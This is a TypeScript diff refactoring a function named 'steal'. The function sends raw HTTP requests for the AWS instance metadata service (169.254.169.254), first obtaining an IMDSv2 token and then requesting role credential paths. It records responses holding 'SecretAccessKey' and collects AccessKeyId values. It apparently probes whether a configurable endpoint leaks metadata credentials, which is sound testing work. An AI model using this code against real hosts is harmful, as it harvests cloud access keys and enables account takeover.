@@ -1,16 +1,16 @@
-import { connect } from "node:net";
+import { bodyOf, type Destination, exchange } from "./exchange.ts";
 
 /** What a theft brought. */
 export interface Loot {
   readonly attempts: number;
   /** The requests whose answer held something of the host's. */
   readonly stolen: readonly string[];
+  /** Those of all credentials that any answer held. */
+  readonly accessKeyIds: readonly string[];
 }
 
-export interface TheftTarget {
-  readonly host: string;
-  readonly port: number;
-  /** Names that only the host's own answers hold: its role, its keys. */
+export interface TheftTarget extends Destination {
+  /** A name that only the host's own answers hold: its role's. */
   readonly hostRoleName: string;
 }
 
@@ -36,36 +36,27 @@ const paths = (roleName: string): readonly string[] =>
 
 /** Asks for the host's credentials in every way known, with a good token and without one. */
 export async function steal(target: TheftTarget): Promise<Loot> {
-  const answer = await exchange(target, tokenRequest());
-  const token = answer.split("\r\n\r\n")[1] ?? "";
+  const token = bodyOf(await exchange(target, tokenRequest()));
   const requests = paths(target.hostRoleName).flatMap((path) => [
     request("GET", path),
     request("GET", path, token),
     request("POST", path, token),
   ]);
   const stolen: string[] = [];
+  const accessKeyIds = new Set<string>();
   for (const text of requests) {
-    const body = (await exchange(target, text)).split("\r\n\r\n")[1] ?? "";
+    const body = bodyOf(await exchange(target, text));
+    for (const [, id = ""] of body.matchAll(ACCESS_KEY_ID)) accessKeyIds.add(id);
     if (body.includes(target.hostRoleName) || body.includes("SecretAccessKey"))
       stolen.push(text.split("\r\n")[0] ?? "");
   }
-  return { attempts: requests.length, stolen };
+  return { attempts: requests.length, stolen, accessKeyIds: [...accessKeyIds] };
 }
+
+const ACCESS_KEY_ID = /"AccessKeyId"\s*:\s*"(\w+)"/g;
 
 const tokenRequest = (): string =>
   "PUT /latest/api/token HTTP/1.0\r\nHost: 169.254.169.254\r\nX-aws-ec2-metadata-token-ttl-seconds: 60\r\n\r\n";
 
 const request = (method: string, path: string, token?: string): string =>
   `${method} ${path} HTTP/1.0\r\nHost: 169.254.169.254\r\n${token === undefined ? "" : `X-aws-ec2-metadata-token: ${token}\r\n`}\r\n`;
-
-/** One request on a connection of its own; "" when it was cut. */
-function exchange({ host, port }: TheftTarget, text: string): Promise<string> {
-  return new Promise((resolve) => {
-    const parts: Buffer[] = [];
-    const socket = connect({ host, port });
-    socket.on("data", (part) => parts.push(part));
-    socket.on("error", () => resolve(""));
-    socket.on("close", () => resolve(Buffer.concat(parts).toString("latin1")));
-    socket.write(text, "latin1");
-  });
-}
